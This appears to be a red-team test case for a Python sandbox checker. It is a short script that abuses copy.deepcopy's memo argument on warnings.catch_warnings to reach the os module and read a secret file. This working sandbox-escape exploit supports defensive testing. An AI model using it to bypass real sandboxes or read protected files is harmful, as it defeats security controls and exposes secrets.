# family: red team, round 9 (deepcopy_doublestar_memo)
# Same memo rule, other gap: **{"memo": m} is a keyword whose value is a dict display, which the rule takes
# for "a new plain dict" memo; the real memo is the tool's object inside it.
import copy
import warnings


class Memo:
    def __init__(self):
        self.stored = []

    def get(self, key, default=None):
        return default if len(self.stored) < 2 else 0

    def __setitem__(self, key, value):
        self.stored.append(value)

    def __getitem__(self, key):
        raise KeyError(key)


def run():
    memo = Memo()
    copy.deepcopy(warnings.catch_warnings(), **{"memo": memo})
    state = [v for v in memo.stored if isinstance(v, list)][0][0]
    mod = state["_module"]
    osmod = mod.sys.modules["os"]
    fd = osmod.open("/tmp/r9/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return mod.__name__, osmod.getpid(), text


print(run())
